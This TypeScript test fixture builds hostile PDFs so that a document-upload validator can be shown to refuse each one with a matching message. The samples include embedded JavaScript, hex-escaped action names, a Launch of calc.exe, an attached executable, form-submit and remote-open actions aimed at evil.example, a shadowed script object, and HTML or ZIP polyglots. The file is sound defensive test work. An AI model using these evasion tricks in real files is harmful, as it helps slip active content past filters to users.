import { AFRelationship, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { HAND_MADE_PDFS } from '#server/testing/hand-made-pdfs.ts'
import { samplePdf } from '#server/testing/sample-documents.ts'

export interface HostilePdf {
  make: () => Promise<Buffer>
  says: RegExp
}

/** A PDF that everybody can open and that its owner's password restricts. */
export async function restrictedPdf(change: (document: PDFDocument) => void = () => undefined): Promise<Buffer> {
  const document = await PDFDocument.load(await samplePdf(1, change))
  document.encrypt({ userPassword: '', ownerPassword: 'owner', permissions: { copying: false } })
  return Buffer.from(await document.save())
}

/** PDFs that are refused, each with the words that the refusal must hold. */
export const HOSTILE_PDFS: Record<string, HostilePdf> = {
  'a password': {
    make: async () => {
      const document = await PDFDocument.load(await samplePdf())
      document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' })
      return Buffer.from(await document.save())
    },
    says: /password/,
  },
  'a script behind restrictions of its owner': {
    make: () => restrictedPdf((document) => document.addJavaScript('main', 'app.alert(1)')),
    says: /JavaScript/,
  },
  'JavaScript at opening': {
    make: () => samplePdf(1, (document) => document.addJavaScript('main', 'app.alert(1)')),
    says: /JavaScript/,
  },
  'JavaScript spelt in hex, behind a reference': {
    make: async () => {
      const action = await samplePdf(1, ({ context, catalog }) => {
        const kind = context.register(PDFName.of('JavaScript'))
        catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: kind, URI: PDFString.of('x') }))
      })
      const text = action.toString('latin1')
      return Buffer.from(text.replaceAll('/JavaScript', '/J#61vaScript'), 'latin1')
    },
    says: /JavaScript/,
  },
  'a launch action': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
      ),
    says: /starts a program/,
  },
  'an attached file': {
    make: () =>
      samplePdf(1, (document) =>
        document.attach(new Uint8Array([77, 90, 1, 2]), 'setup.exe', { afRelationship: AFRelationship.Data }),
      ),
    says: /attached/,
  },
  'a form that sends': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(
          PDFName.of('OpenAction'),
          context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
        ),
      ),
    says: /sends or fetches/,
  },
  'an older version of an object with a script': {
    make: async () => {
      const bytes = await samplePdf(1)
      const hidden = '\n900 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n900 0 obj\n<< /S /GoTo >>\nendobj\n'
      return Buffer.concat([bytes.subarray(0, 15), Buffer.from(hidden), bytes.subarray(15)])
    },
    says: /JavaScript/,
  },
  'a file of another place to open': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoToR', F: PDFString.of('//evil.example/x.pdf') })),
      ),
    says: /sends or fetches/,
  },
  'a file inside to open': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoToE', T: { R: 'C' } })),
      ),
    says: /sends or fetches/,
  },
  'data to import': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'ImportData', F: PDFString.of('x.fdf') })),
      ),
    says: /sends or fetches/,
  },
  'a RichMedia scene': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('Extra'), context.obj([{ Type: 'Annot', Subtype: 'RichMedia' }])),
      ),
    says: /video, sound or 3D/,
  },
  'an XFA form': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
      ),
    says: /XFA/,
  },
  'a web page behind its end': {
    make: async () => Buffer.concat([await samplePdf(), Buffer.from('\n<script>alert(1)</script>')]),
    says: /another kind of file/,
  },
  'a web page at its beginning': {
    make: async () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF'),
    says: /another kind of file/,
  },
  'an archive behind its end': {
    make: async () => Buffer.concat([await samplePdf(), Buffer.from('504b0506' + '00'.repeat(18), 'hex')]),
    says: /another kind of file/,
  },
  'no pages at all': {
    make: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF'),
    says: /damaged/,
  },
  ...HAND_MADE_PDFS,
}
